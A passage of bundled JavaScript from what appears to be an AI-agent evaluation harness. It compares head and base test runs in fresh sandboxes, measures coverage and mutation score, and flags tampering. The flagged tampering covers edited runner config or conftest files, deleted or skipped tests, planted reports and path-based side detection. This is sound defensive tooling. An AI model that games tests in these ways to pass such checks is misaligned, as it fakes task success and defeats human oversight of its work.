 * within an operator its lines by halves (both ends, the middle, the quarters…, so any cut keeps
 * the whole span). Returned in the listing's order.
 */
function sample(mutants, max) {
    if (mutants.length <= max)
        return { chosen: mutants };
    const group = (xs, key) => {
        const m = new Map();
        for (const x of xs)
            m.set(key(x), [...(m.get(key(x)) ?? []), x]);
        return [...m.keys()].sort().map((k) => m.get(k));
    };
    const interleave = (lists) => {
        const out = [];
        for (let i = 0; lists.some((l) => i < l.length); i++)
            for (const l of lists)
                if (i < l.length)
                    out.push(l[i]);
        return out;
    };
    const order = interleave(group(mutants, (m) => m.path).map((inFile) => interleave(group(inFile, (m) => m.operator).map((ofOp) => spread([...ofOp].sort((a, b) => a.line - b.line || a.id.localeCompare(b.id)))))));
    const keep = new Set(order.slice(0, Math.max(0, max)));
    const chosen = mutants.filter((m) => keep.has(m));
    const files = new Set(mutants.map((m) => m.path)).size;
    return {
        chosen,
        sampled: `${mutants.length} mutants found on the changed lines of ${files} file(s); ${chosen.length} run (compare.mutation.max_mutants), spread across files, operators and lines; ${mutants.length - chosen.length} skipped`
    };
}
/** The items in an order where any prefix is spread over the whole list (binary subdivision). */
function spread(xs) {
    if (xs.length <= 2)
        return xs;
    const out = [];
    const seen = new Set();
    const add = (i) => {
        if (!seen.has(i)) {
            seen.add(i);
            out.push(xs[i]);
        }
    };
    add(0);
    add(xs.length - 1);
    for (let parts = 2; out.length < xs.length; parts *= 2)
        for (let k = 1; k < parts; k += 2)
            add(Math.floor((k * (xs.length - 1)) / parts));
    return out;
}

;// CONCATENATED MODULE: ./src/run/compare/evidence/index.ts
// compare.evidence: after the verdict, on head, in fresh sandboxes (the verdict's machinery):
// the changed lines, their coverage by the head suite and by the fail-to-pass tests, mutants on
// them (mutation.ts), and compare.require checked against what was measured.
//
// When: coverage on catches-change and does-not-catch (head green: what the suite runs is still
// worth knowing when no test catches the change); mutation on catches-change only (a mutant is
// "killed" by tests that judge the change; with none, every mutant would survive for a reason
// the verdict already gives). Nothing on regression, untrusted or error: head is not green or the
// tests are not to be believed, and a gate asked for then fails as "not measured".








/** compare.evidence plus what compare.require needs (a gate turns its evidence on). */
function evidence_evidenceKinds(spec) {
    const kinds = new Set(spec.evidence ?? []);
    if (spec.require?.changed_line_coverage !== undefined)
        kinds.add('coverage');
    if (spec.require?.mutation_score !== undefined)
        kinds.add('mutation');
    return ['coverage', 'mutation'].filter((k) => kinds.has(k));
}
/** Files a head tree may carry to change what coverage measures (ignored: the harness rcfile is used). */
const COVERAGE_CONFIG = /(^|\/)(\.coveragerc|setup\.cfg|tox\.ini|pyproject\.toml|\.c8rc(\.json)?|\.nycrc(\.json|\.ya?ml)?)$/;
async function evidence_gatherEvidence(r) {
    const kinds = evidence_evidenceKinds(r.spec);
    const result = {
        kinds,
        ...(r.spec.require ? { require: r.spec.require } : {}),
        headRunMs: r.headRunMs
    };
    const runs = (k) => k === 'coverage'
        ? r.verdict === 'catches-change' || r.verdict === 'does-not-catch'
        : r.verdict === 'catches-change';
    let notRun;
    /** Changed lines the evidence could not look at: a gate never passes over them. */
    const incomplete = [];
    try {
        const { files, omitted, unreadable } = await changedLines(r.git, {
            top: r.top,
            baseSha: r.baseSha,
            tests: r.spec.tests,
            exclude: r.exclude
        });
        result.changed = files;
        if (omitted)
            incomplete.push(`${omitted} changed source file(s) over the limit`);
        if (unreadable.length)
            incomplete.push(`changed source file(s) not readable as files: ${unreadable.join(', ')}`);
        if (incomplete.length)
            result.notes = [...(result.notes ?? []), ...incomplete.map((x) => `${x}: not measured`)];
        const configs = await changedConfig(r);
        if (configs.length)
            result.notes = [
                ...(result.notes ?? []),
                `head changes coverage configuration (${configs.join(', ')}): ignored, the harness's own configuration is used`
            ];
        let covering;
        if (kinds.includes('coverage')) {
            if (!runs('coverage'))
                notRun = `verdict ${r.verdict}`;
            else {
                const mapped = await measureCoverage(r, files);
                result.coverage = mapped.report;
                covering = mapped.coveringTests;
                r.log(`compare evidence: changed-line coverage ${fmt(mapped.report.suite.ratio)}`);
            }
        }
        if (kinds.includes('mutation')) {
            if (!runs('mutation'))
                notRun = `verdict ${r.verdict}`;
            else
                result.mutation = await mutate(r, files, covering);
        }
    }
    catch (e) {
        const problem = `evidence not gathered: ${e.message}`;
        r.log(`compare ${problem}`);
        notRun = problem;
        result.problem = problem;
    }
    if (notRun && !result.problem)
        result.notes = [
            ...(result.notes ?? []),
            `not gathered on a ${notRun}: head must be green and its tests believed`
        ];
    if (r.spec.require) {
        result.gate = checkGate(r.spec.require, {
            coverage: result.coverage,
            mutation: result.mutation,
            changedLines: (result.changed ?? []).reduce((n, f) => n + f.lines.length, 0),
            ...(incomplete.length ? { incomplete: incomplete.join('; ') } : {}),
            ...(notRun ? { notRun } : {})
        });
    }
    return result;
}
const fmt = (x) => (x === null ? 'n/a' : `${Math.round(x * 1000) / 10} %`);
async function changedConfig(r) {
    const out = await r.git.run([
        'diff',
        '--no-ext-diff',
        '--no-textconv',
        '--no-renames',
        '--no-relative',
        '--name-only',
        '-z',
        r.baseSha,
        '--'
    ], { cwd: r.top });
    const untracked = await r.git.run(['ls-files', '-z', '--others', '--exclude-standard'], {
        cwd: r.top
    });
    return [
        ...out.stdout.toString('utf8').split('\0'),
        ...untracked.stdout.toString('utf8').split('\0')
    ]
        .filter((p) => COVERAGE_CONFIG.test(p))
        .slice(0, 10);
}
async function mutate(r, changed, coveringTests) {
    const settings = r.spec.mutation ?? {};
    const parallel = Math.max(1, Math.floor(r.cpus ?? availableParallelism()));
    const report = await runMutation({
        changed,
        ...(coveringTests ? { coveringTests } : {}),
        failToPass: r.failToPass,
        command: r.command,
        headRunMs: r.headRunMs,
        settings,
        parallel,
        log: r.log,
        ...r.mutation
    });
    if (report.sampled)
        r.log(`compare evidence: mutation: ${report.sampled}`);
    r.log(`compare evidence: mutation score ${fmt(report.score)} (${report.killed} killed, ${report.survived} survived, ${report.timeout} timeout, ${report.error} error; ${report.skipped} of ${report.found} not run)`);
    return report;
}
const MAX_JSON_BYTES = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
const MAX_V8_FILES = 200;
/** A file the sandbox wrote (its user's: no symlink followed, size capped); undefined when none. */
const readOurs = (path) => readNoFollow(path, MAX_JSON_BYTES);
/**
 * The step's command as written, once, in a fresh head sandbox, with coverage.py started in every
 * Python process and V8 coverage on for every node process; harness files in a directory the
 * sandbox's user cannot write, data in one it can.
 */
async function measureCoverage(r, changed) {
    const py = changed.some((c) => c.path.endsWith('.py'));
    const js = changed.some((c) => /\.(js|mjs|cjs|jsx)$/.test(c.path));
    const ts = changed.filter((c) => /\.(ts|mts|cts|tsx)$/.test(c.path)).map((c) => c.path);
    const head = await r.open();
    try {
        const harness = join(head.root, 'evidence-harness');
        const data = join(head.root, 'evidence-data');
        await mkdir(harness, { mode: 0o755 });
        await mkdir(data, { mode: 0o777 });
        await chmod(data, 0o777);
        const json = join(data, 'coverage.json');
        const rc = join(harness, 'coveragerc');
        const v8dir = join(data, 'v8');
        await writeFile(rc, rcfile({ source: head.tree, dataFile: join(data, '.coverage'), json }), {
            mode: 0o644
        });
        await writeFile(join(harness, 'sitecustomize.py'), SITECUSTOMIZE, { mode: 0o644 });
        await writeFile(join(harness, `${PLUGIN_MODULE}.py`), CONTEXT_PLUGIN, { mode: 0o644 });
        const env = {
            ...(py ? pythonEnv(head.place.env, { harnessDir: harness, rc }) : head.place.env),
            ...(js ? { NODE_V8_COVERAGE: v8dir } : {})
        };
        const t0 = Date.now();
        const run = await head.box.exec(r.command, { ...head.place, env });
        r.log(`compare evidence: coverage run exit ${run.exitCode} in ${Date.now() - t0} ms`);
        const trees = [head.tree, await realpath(head.tree).catch(() => head.tree)];
        const text = (p) => textOf(r.top, p);
        const texts = new Map();
        for (const c of changed)
            texts.set(c.path, await text(c.path));
        const parts = [];
        const problems = [];
        if (py) {
            // The harness's coverage, from its own directory, isolated (-I): no module of the tree.
            // A report the step's processes planted is never read: removed first, and only a json
            // step that succeeded counts.
            const rep = await head.box.exec(`rm -f ${json} ; python3 -I -m coverage combine --rcfile=${rc} -q ; python3 -I -m coverage json --rcfile=${rc} -q`, { ...head.place, cwd: harness, env: head.place.env });
            const raw = rep.exitCode === 0 ? await readOurs(json) : undefined;
            if (!raw)
                problems.push(`coverage.py wrote no report (exit ${rep.exitCode}): ${rep.stdout.trim().slice(-300)}`);
            else
                parts.push(fromCoveragePy(JSON.parse(raw), changed, {
                    trees,
                    failToPass: r.failToPass,
                    text: (p) => texts.get(p)
                }));
        }
        if (js) {
            const names = (await readdir(v8dir).catch(() => []))
                .filter((n) => n.endsWith('.json'))
                .slice(0, MAX_V8_FILES);
            const reports = [];
            for (const n of names) {
                const raw = await readOurs(join(v8dir, n));
                if (raw)
                    reports.push(JSON.parse(raw));
            }
            if (!reports.length)
                problems.push('no V8 coverage written: the command ran no node process');
            else
                parts.push(fromV8(reports, changed, { trees, text: (p) => texts.get(p) }));
        }
        return evidence_merge(parts, problems, ts);
    }
    finally {
        await head.box.close();
    }
}
async function textOf(top, rel) {
    return readText(join(top, rel));
}
function evidence_merge(parts, problems, ts) {
    const suite = parts.flatMap((p) => p.report.suite.files);
    const f2p = parts.flatMap((p) => p.report.failToPass?.files ?? []);
    const report = {
        tool: parts.some((p) => p.report.tool === 'coverage.py') || !parts.length ? 'coverage.py' : 'v8',
        suite: { files: suite, ratio: ratioOf(suite) },
        ...(f2p.length ? { failToPass: { files: f2p, ratio: ratioOf(f2p) } } : {})
    };
    if (ts.length)
        report.notes = [`TypeScript not measured (no source maps): ${ts.slice(0, 10).join(', ')}`];
    if (problems.length && !parts.length)
        report.problem = problems.join('; ');
    else if (problems.length)
        report.notes = [...(report.notes ?? []), ...problems];
    return { report, coveringTests: Object.assign({}, ...parts.map((p) => p.coveringTests)) };
}

;// CONCATENATED MODULE: ./src/run/compare/tamper.ts
// What a change did to how its tests run, beyond tests and code: runner configuration and test
// support it added or edited, base tests it deleted, skipped or renamed, reports that disagree
// with an independent collection. Each makes the verdict `untrusted` unless compare.allow
// accepts its kind. Pure: contents in, findings out.

const base = (p) => posix.basename(p);
/** Files loaded by a test runner besides the tests (always compared, whatever compare.tests says). */
function isTestSupport(p) {
    const b = base(p);
    return (b === 'conftest.py' ||
        /pytest_?plugins?\b/i.test(b) ||
        /^(jest|vitest)\.setup\.[cm]?[jt]sx?$/.test(b) ||
        /^setupTests\.[cm]?[jt]sx?$/.test(b));
}
/** Runner configuration files (parts of them are compared for the shared ones). */
function isRunnerConfig(p) {
    const b = base(p);
    return ([
        'pytest.ini',
        '.pytest.ini',
        'tox.ini',
        'setup.cfg',
        'pyproject.toml',
        'package.json'
    ].includes(b) ||
        /^(jest|vitest|vite|ava)\.config\.[cm]?[jt]s(on)?$/.test(b) ||
        /^\.mocharc(\.[a-z]+)?$/.test(b) ||
        /^\.taprc$/.test(b));
}
const tamper_watched = (p) => isTestSupport(p) || isRunnerConfig(p);
/** INI sections (setup.cfg, tox.ini) or TOML tables (pyproject) that configure a test runner. */
function sections(text, keep) {
    const out = [];
    let on = false;
    for (const raw of text.split(/\r?\n/)) {
        const line = raw.trim();
        const header = /^\[+\s*([^\]]+?)\s*\]+$/.exec(line);
        if (header)
            on = keep(header[1].replace(/["']/g, ''));
        if (on && line && !line.startsWith('#') && !line.startsWith(';'))
            out.push(line);
    }
    return out.join('\n');
}
const PACKAGE_KEYS = (/* unused pure expression or super */ null && (['scripts', 'jest', 'mocha', 'ava', 'vitest', 'c8', 'nyc', 'type', 'imports']));
/** The part of a runner config file that matters; the whole file when it cannot be read as such. */
function relevant(p, data) {
    if (data === undefined)
        return undefined;
    const text = data.toString('utf8');
    const b = base(p);
    if (b === 'pyproject.toml')
        return sections(text, (n) => n.startsWith('tool.pytest'));
    if (b === 'setup.cfg')
        return sections(text, (n) => /^(tool:pytest|pytest|coverage)/.test(n));
    if (b === 'tox.ini')
        return sections(text, (n) => /^(pytest|testenv)/.test(n));
    if (b === 'package.json') {
        try {
            const j = JSON.parse(text);
            return JSON.stringify(PACKAGE_KEYS.map((k) => [k, j[k]]));
        }
        catch {
            return text;
        }
    }
    return text;
}
/** Runner configuration and test support added, edited or removed between base and head. */
function tamper_fileTamper(files, removedTests) {
    const out = [];
    for (const w of files) {
        const kind = isTestSupport(w.path) ? 'test-support' : 'runner-config';
        const before = kind === 'runner-config' ? relevant(w.path, w.base) : w.base?.toString('utf8');
        const after = kind === 'runner-config' ? relevant(w.path, w.head) : w.head?.toString('utf8');
        if (before === after || (!before && !after))
            continue;
        const detail = before === undefined || before === ''
            ? kind === 'runner-config'
                ? 'test-runner settings added'
                : 'added by the change'
            : after === undefined || after === ''
                ? 'removed by the change'
                : kind === 'runner-config'
                    ? 'test-runner settings edited'
                    : 'edited by the change';
        out.push({ kind, path: w.path, detail });
    }
    for (const p of removedTests) {
        out.push({ kind: 'removed-test', path: p, detail: 'a test file of base deleted by the change' });
    }
    return out;
}
/** Base's test ids gone from head's collection (deleted or renamed) and base tests skipped on head. */
function tamper_testTamper(baseIds, headIds, headSkipped) {
    if (!baseIds || !headIds)
        return [];
    const head = new Set(headIds);
    const skipped = new Set(headSkipped);
    const out = [];
    for (const id of baseIds) {
        if (!head.has(id)) {
            out.push({ kind: 'removed-test', path: id, detail: 'collected on base, not on head' });
        }
        else if (skipped.has(id)) {
            out.push({ kind: 'skipped-test', path: id, detail: 'runs on base, skipped or xfail on head' });
        }
    }
    return out;
}
/** Marks findings compare.allow accepts; the rest decide the verdict. */
function tamper_applyAllow(found, allow = []) {
    return found.map((t) => (allow.includes(t.kind) ? { ...t, allowed: true } : t));
}

;// CONCATENATED MODULE: ./src/run/compare/run.ts
// A compare step: the step on the head tree and on the base tree (base's revision with only the
// head's test files), each side in a fresh sandbox started from the agent's image with its
// limits and policy (new home and /tmp, no process left from the other side), from copies
// outside the agent's workspace and outside every path it can write; the sides in a random
// order, the same number of attempts each. pytest's tests are also collected in a separate
// process on each side and the reports checked against that collection; a change to runner
// configuration or test-support code makes the verdict `untrusted` (unless compare.allow says
// otherwise). A side that cannot be prepared or judged makes the verdict `error`.













/** Under the agent workspace: the trees when the fresh-sandbox defence is switched off (tests). */
const COMPARE_DIR = '.massgen-compare';
async function run_runCompare(o) {
    const t0 = Date.now();
    const ref = o.baseRef || o.step.compare.base;
    const compare = {
        ...(ref ? { baseRef: ref } : {}),
        transitions: emptyTransitions(),
        verdict: 'error',
        timings: { prepareMs: 0, headMs: 0, baseMs: 0 }
    };
    const failed = (reason) => ({
        ...o.base,
        status: 'error',
        reason: `compare: ${reason}`,
        durationMs: Date.now() - t0,
        compare: { ...compare, reason }
    });
    if (!ref)
        return failed('no base revision: set compare.base, or the base-ref input / --base-ref');
    let prepared;
    try {
        prepared = await prepare(o, ref, compare);
    }
    catch (e) {
        const msg = e.message;
        return failed(e instanceof CompareError ? msg : `cannot prepare the trees: ${msg}`);
    }
    finally {
        compare.timings.prepareMs = Date.now() - t0;
    }
    const w = o.weaken ?? {};
    const order = w.sharedSandbox
        ? ['head', 'base']
        : randomInt(2) === 0
            ? ['base', 'head']
            : ['head', 'base'];
    const retries = o.step.retries ?? 0;
    compare.order = order;
    compare.attemptsPerSide = retries + 1;
    const collect = w.noCollection ? undefined : collectCommand(o.step.run);
    const out = {};
    try {
        for (const side of order) {
            const n = w.oneSidedRetries && side === 'base' ? 0 : retries;
            out[side] = await runSide(o, prepared, side, n, { collect });
            compare.timings[side === 'head' ? 'headMs' : 'baseMs'] = out[side].ms;
            if (out[side].checked.problem)
                break;
        }
        const result = conclude(o, compare, prepared, out, t0);
        if (collect && prepared.names.original && compare.verdict !== 'error')
            await baseOwnTests(o, prepared, out, result, collect);
        if (collect && !w.noRerun && compare.verdict === 'catches-change')
            await rerun(o, prepared, out, result);
        await evidence(o, prepared, out, result);
        result.durationMs = Date.now() - t0;
        return result;
    }
    catch (e) {
        return failed(`cannot run a side: ${e.message}`);
    }
    finally {
        await rm(prepared.dir, { recursive: true, force: true }).catch((e) => o.log(`[${o.agent.id}] compare: ${e.message}`));
    }
}
/**
 * The fail-to-pass tests again, alone (every other collected id deselected), each side in a
 * fresh sandbox: they must fail on base and pass on head, else the verdict is untrusted.
 */
const rerun = async (o, p, out, result) => {
    const c = result.compare;
    const ids = c.transitions.failToPass;
    const sides = randomInt(2) === 0 ? ['base', 'head'] : ['head', 'base'];
    const found = [];
    const said = { base: 'not run', head: 'not run' };
    for (const side of sides) {
        const collected = out[side]?.collected ?? [];
        const command = rerunCommand(o.step.run, ids, collected);
        if (!command) {
            said[side] = `not re-run: more than ${MAX_DESELECT} other tests or an id with a quote`;
            continue;
        }
        const s = await runSide(o, p, side, 0, { command, label: `${side}-rerun` });
        out[side]?.reports.push(...s.reports);
        const cases = withNodeIds(s.checked.cases, collected);
        const bad = s.checked.problem && !(side === 'base' && s.checked.result.status === 'failed')
            ? `${side}: the re-run cannot be judged: ${s.checked.problem}`
            : rerunDisagrees(side, ids, cases);
        said[side] = bad ?? (side === 'base' ? 'all failed again' : 'all passed again');
        if (bad)
            found.push({ kind: 'rerun-mismatch', path: ids.slice(0, 5).join(', '), detail: bad });
    }
    c.rerun = { ids, base: said.base, head: said.head };
    if (!found.length)
        return;
    c.tamper = [...(c.tamper ?? []), ...applyAllow(found, o.step.compare.allow)];
    const { verdict, reason } = judge({
        headGreen: true,
        transitions: c.transitions,
        tamper: c.tamper
    });
    c.verdict = verdict;
    if (reason)
        c.reason = reason;
};
/**
 * Base's own tests, from the base revision as it is (none of head's test files) in a fresh
 * sandbox: collected, and those head reports skipped or xfail run alone there. A base test head
 * did not collect (deleted, renamed) or skips where base runs it makes the verdict untrusted.
 */
async function baseOwnTests(o, p, out, result, collect) {
    const c = result.compare;
    const head = out.head;
    if (!head?.collected)
        return;
    const skippedOnHead = withNodeIds(head.checked.cases, head.collected)
        .filter((x) => x.outcome === 'skip')
        .map((x) => x.id);
    let selected = [];
    let unselectable = false;
    const s = await runSide(o, p, 'base', 0, {
        collect,
        member: p.names.original,
        label: 'base-own',
        select: (ids) => {
            const known = new Set(ids);
            selected = [...new Set(skippedOnHead.filter((id) => known.has(id)))];
            const command = selected.length ? rerunCommand(o.step.run, selected, ids) : undefined;
            unselectable = selected.length > 0 && !command;
            return command;
        }
    });
    out.base?.reports.push(...s.reports);
    const own = { checkedSkipped: selected };
    if (s.collected)
        own.collected = s.collected.length;
    if (!s.collected)
        own.problem = s.checked.problem ?? 'not collected';
    else if (unselectable)
        own.problem = `skipped tests not run on base: more than ${MAX_DESELECT} other tests or an id with a quote`;
    c.baseOwn = own;
    if (own.problem)
        o.log(`[${o.agent.id}] compare: base's own tests: ${own.problem}`);
    const ran = new Map(withNodeIds(s.checked.cases, s.collected ?? []).map((x) => [x.id, x.outcome]));
    const runsOnBase = selected.filter((id) => ran.get(id) === 'pass' || ran.get(id) === 'fail');
    const removedFiles = (c.tamper ?? []).filter((t) => t.kind === 'removed-test').map((t) => t.path);
    const inRemovedFile = (id) => {
        const file = id.split('::')[0];
        return removedFiles.some((r) => r === file || r.endsWith(`/${file}`));
    };
    const found = testTamper(s.collected, head.collected, runsOnBase).filter((t) => !(t.kind === 'removed-test' && inRemovedFile(t.path)));
    if (!found.length)
        return;
    c.tamper = [...(c.tamper ?? []), ...applyAllow(found, o.step.compare.allow)];
    if (o.step.compare.allow?.length)
        c.allow = o.step.compare.allow;
    const { verdict, reason } = judge({
        headGreen: head.checked.result.status === 'passed',
        transitions: c.transitions,
        tamper: c.tamper
    });
    c.verdict = verdict;
    if (reason)
        c.reason = reason;
}
function conclude(o, compare, prepared, out, t0) {
    const { head, base } = out;
    const w = o.weaken ?? {};
    const problem = !head
        ? `base: ${base?.checked.problem}`
        : head.checked.problem
            ? `head: ${head.checked.problem}`
            : !base
                ? 'base did not run'
                : base.checked.problem
                    ? `base: ${base.checked.problem}`
                    : undefined;
    const found = [...prepared.found];
    const named = (s) => {
        if (!s)
            return [];
        const runs = s.checked.runs ?? [s.checked.cases];
        return s.collected ? runs.map((r) => withNodeIds(r, s.collected)) : runs;
    };
    const headRuns = named(head);
    const baseRuns = named(base);
    const lastOf = (runs) => runs[runs.length - 1] ?? [];
    for (const [side, s, runs] of [
        ['base', base, baseRuns],
        ['head', head, headRuns]
    ]) {
        if (s?.collected && !problem)
            found.push(...reportMismatch(side, lastOf(runs), s.collected));
    }
    const runners = collectCommand(o.step.run) && !w.noCollection ? 'pytest' : undefined;
    if (runners) {
        compare.collected = {
            runner: 'pytest',
            ...(base?.collected ? { base: base.collected.length } : {}),
            ...(head?.collected ? { head: head.collected.length } : {})
        };
    }
    const tamper = applyAllow(found, o.step.compare.allow);
    if (tamper.length)
        compare.tamper = tamper;
    if (o.step.compare.allow?.length)
        compare.allow = o.step.compare.allow;
    const flaky = w.oneSidedRetries
        ? []
        : [...new Set([...changingTests(headRuns), ...changingTests(baseRuns)])];
    const t = problem
        ? undefined
        : withoutFlaky(transitions(lastOf(headRuns), lastOf(baseRuns)), flaky);
    const { verdict, reason } = judge({
        problem,
        headGreen: head?.checked.result.status === 'passed',
        transitions: t,
        tamper
    });
    compare.reports = { base: base?.reports ?? [], head: head?.reports ?? [] };
    Object.assign(compare, {
        transitions: t ?? emptyTransitions(),
        verdict,
        ...(reason ? { reason } : {}),
        ...(base ? { baseRun: sideRun(base.checked.result) } : {})
    });
    const headResult = head?.checked.result ?? { ...o.base, status: 'error' };
    const result = { ...headResult, durationMs: Date.now() - t0, compare };
    if (flaky.length)
        result.flaky = flaky;
    // A head that passed does not make the step pass when the comparison itself broke (and a head
    // that never ran, the base side having failed first, says why).
    if (verdict === 'error' && (result.status === 'passed' || !head)) {
        Object.assign(result, { status: 'error', reason: `compare: ${reason}` });
    }
    return result;
}
async function runSide(o, p, side, retries, how) {
    const collect = how.collect;
    const t0 = Date.now();
    const { box, root, place, shared } = await openBox(o, p, side, how.member);
    if (how.command)
        place.command = how.command;
    const reports = [];
    try {
        let collected;
        if (collect) {
            // A separate process before the step: the ids pytest finds, not the ones a report claims.
            const r = await box.exec(collect, place);
            collected = parseCollected(r.stdout);
            if (!collected) {
                const checked = {
                    result: { ...o.base, status: 'error', reason: 'collection failed' },
                    cases: [],
                    problem: `pytest --collect-only gave no test ids (exit ${r.exitCode}): ${r.stdout.trim().split('\n').slice(-3).join(' ').slice(0, 300)}`
                };
                return { checked, ms: Date.now() - t0, reports };
            }
            if (how.select) {
                const command = how.select(collected);
                if (!command)
                    return { checked: { result: o.base, cases: [] }, collected, ms: Date.now() - t0, reports };
                place.command = command;
            }
        }
        const checked = await box.attempts(place, retries, async (i) => {
            const kept = await keepReport(o, place.report, `${how.label ?? side}-${i + 1}.xml`);
            if (kept)
                reports.push(kept);
        });
        return { checked, collected, ms: Date.now() - t0, reports };
    }
    finally {
        await box.close();
        // Test-only layout: the root is ours, inside the workspace (its tree went with the sandbox's user).
        if (shared)
            await rm(root, { recursive: true, force: true });
    }
}
/** A fresh sandbox on a fresh copy of one tree of the tar (`member`: the side's own by default). */
async function openBox(o, p, side, member = p.names[side]) {
    const token = randomBytes(6).toString('hex');
    const shared = o.weaken?.sharedSandbox === true;
    const root = shared ? join(resolve(o.agent.workspace), COMPARE_DIR, token) : join(p.dir, token);
    await mkdir(root, { recursive: true });
    // Ours, inside a 0700 directory: writable by the sandbox's user whoever it is.
    await chmod(root, 0o777);
    const tar = join(root, `${token}.tar`);
    await copyFile(p.tar, tar);
    const box = await o.openSide({ side, root, tar, member, ...(shared ? { shared } : {}) });
    const tree = join(root, member);
    const scratch = o.agent.mode === 'docker' ? {} : await freshHome(root);
    const place = {
        cwd: join(tree, p.cwdRel),
        env: { ...o.step.env, ...scratch },
        report: join(tree, p.reportRel)
    };
    return { box, root, tree, place, shared };
}
/**
 * compare.evidence (and compare.require) on head, after the verdict, each measure in a fresh
 * sandbox; a gate not met fails the step (the verdict stays what the transitions say).
 */
const evidence = async (o, p, out, result) => {
    const c = result.compare;
    if (!evidenceKinds(o.step.compare).length || !c.base)
        return;
    const t0 = Date.now();
    const ev = await gatherEvidence({
        spec: o.step.compare,
        verdict: c.verdict,
        git: o.git,
        top: p.top,
        baseSha: c.base,
        exclude: p.exclude,
        failToPass: c.transitions.failToPass,
        command: o.step.run,
        env: o.step.env,
        timeoutSec: o.step.timeoutSec,
        headRunMs: out.head?.checked.result.durationMs ?? 0,
        cpus: o.agent.docker?.cpus,
        open: () => openBox(o, p, 'head'),
        mutation: {
            openHead: (req) => o.openSide({ side: 'head', ...req }),
            head: {
                dir: p.dir,
                tar: p.tar,
                member: p.names.head,
                cwdRel: p.cwdRel,
                env: o.step.env,
                freshHome: o.agent.mode !== 'docker'
            }
        },
        log: (l) => o.log(`[${o.agent.id}] ${l}`)
    });
    c.evidence = ev;
    c.timings.evidenceMs = Date.now() - t0;
    if (ev.gate && !ev.gate.passed && (result.status === 'passed' || result.status === 'failed')) {
        result.status = 'failed';
        result.reason = `compare.require not met: ${ev.gate.failures.join(' | ')}`.slice(0, 2000);
    }
};
/** A new HOME and TMPDIR per side where the sandbox does not give one (srt, local). */
async function freshHome(root) {
    const home = join(root, 'home');
    const tmp = join(root, 'tmp');
    await mkdir(home, { mode: 0o777 });
    await mkdir(tmp, { mode: 0o777 });
    await chmod(home, 0o777);
    await chmod(tmp, 0o777);
    return { HOME: home, TMPDIR: tmp, XDG_CACHE_HOME: join(home, '.cache') };
}
const MAX_REPORT_BYTES = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
/** Copies a side's report (written by the agent's code: no symlink followed) into the output dir. */
async function keepReport(o, src, name) {
    const rel = join(o.agent.id, `step-${o.step.index + 1}-compare`, name);
    try {
        const fh = await open(src, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK);
        try {
            const st = await fh.stat();
            if (!st.isFile() || st.size > MAX_REPORT_BYTES)
                return undefined;
            const dest = join(o.outDir, rel);
            await mkdir(dirname(dest), { recursive: true });
            await writeFile(dest, await fh.readFile());
            return rel.split(sep).join('/');
        }
        finally {
            await fh.close();
        }
    }
    catch {
        return undefined;
    }
}
async function prepare(o, ref, compare) {
    const { agent, step, git } = o;
    const roots = await Promise.all(allowedRoots(agent).map((r) => realpath(r.path).catch(() => r.path)));
    // Before anything is read from it: the repository and every git dir it names are the agent's.
    await assertRepoInside(git, step.compare.repo, roots);
    const tree = await workTree(git, step.compare.repo);
    compare.head = tree.head;
    compare.base = await resolveRevision(git, tree.top, ref);
    const rel = (p) => relative(tree.top, p).split(sep).join('/');
    const within = (p) => isInside(p, tree.top);
    const cwd = await realpath(step.workDir ?? agent.workspace).catch(() => resolve(step.workDir));
    if (!within(cwd)) {
        throw new CompareError(`the step's directory ${cwd} is outside the git work tree ${tree.top}`);
    }
    const realWs = await realpath(resolve(agent.workspace));
    const realReport = resolve(realWs, step.junit);
    if (!within(realReport)) {
        throw new CompareError(`the JUnit report ${step.junit} is outside the git work tree ${tree.top}: each side runs in its own copy, so the report must be written inside the tree (a relative path)`);
    }
    const reportRel = rel(realReport);
    // Outside the workspace and every path the agent can write (or read).
    const dir = await mkdtemp(join(tmpdir(), 'mgx-compare-'));
    const realDir = await realpath(dir);
    if (!o.weaken?.sharedSandbox && roots.some((r) => isInside(realDir, r) || isInside(r, realDir))) {
        await rm(dir, { recursive: true, force: true });
        throw new CompareError(`the temporary directory ${realDir} overlaps the agent's allowed paths: set TMPDIR elsewhere`);
    }
    const token = () => randomBytes(6).toString('hex');
    const exclude = (p) => p === reportRel || p === COMPARE_DIR || p.startsWith(`${COMPARE_DIR}/`);
    // Neutral names: a test should not learn from its path which side it runs on.
    const ownTests = !o.weaken?.noTamper && !o.weaken?.noCollection && !!collectCommand(step.run);
    const names = { head: token(), base: token(), ...(ownTests ? { original: token() } : {}) };
    const tar = join(dir, 'trees.tar');
    try {
        const packed = await packTrees(git, {
            top: tree.top,
            baseSha: compare.base,
            tests: step.compare.tests,
            exclude,
            dirs: [rel(cwd), reportRel.split('/').slice(0, -1).join('/')],
            names,
            watch: watched,
            headSha: tree.head
        }, tar);
        if (packed.dirty.length)
            compare.dirty = packed.dirty;
        o.log(`[${agent.id}] compare: head ${tree.head.slice(0, 12)}${packed.dirty.length ? ` + ${packed.dirty.length} uncommitted file(s)` : ''} (${packed.headFiles} files), base ${compare.base.slice(0, 12)} = ${ref} ` +
            `(${packed.baseFiles} files, ${packed.testFiles} test files from head), ${(packed.bytes / 1e6).toFixed(1)} MB` +
            (packed.skipped.length ? `; not copied: ${packed.skipped.slice(0, 5).join(', ')}` : ''));
        const found = o.weaken?.noTamper ? [] : fileTamper(packed.watched, packed.removedTestPaths);
        return { dir, tar, names, cwdRel: rel(cwd), reportRel, found, top: tree.top, exclude };
    }
    catch (e) {
        await rm(dir, { recursive: true, force: true }).catch(() => undefined);
        throw e;
    }
}
function sideRun(r) {
    return {
        status: r.status,
        exitCode: r.exitCode,
        durationMs: r.durationMs,
        ...(r.reason ? { reason: r.reason } : {}),
        stdout: r.stdout,
        stderr: r.stderr,
        truncated: r.truncated,
        ...(r.junit ? { junit: r.junit } : {})
    };
}

// EXTERNAL MODULE: external "node:string_decoder"
var external_node_string_decoder_ = __webpack_require__(46193);
;// CONCATENATED MODULE: ./src/run/live-output.ts
// A step's output as it arrives, line by line and redacted, for the console (CLI) and the action
// log: only whole lines are emitted (a secret split across two chunks is still one line when it is
// redacted), UTF-8 decoded per stream, and at most `maxBytes` per step are shown live (the results
// keep their own cap); the rest is said to be cut.

class live_output_LiveLines {
    emit;
    redact;
    maxBytes;
    decoders = {
        stdout: new StringDecoder('utf8'),
        stderr: new StringDecoder('utf8')
    };
    partial = { stdout: '', stderr: '' };
    shown = 0;
    cut = false;
    constructor(emit, redact, maxBytes) {
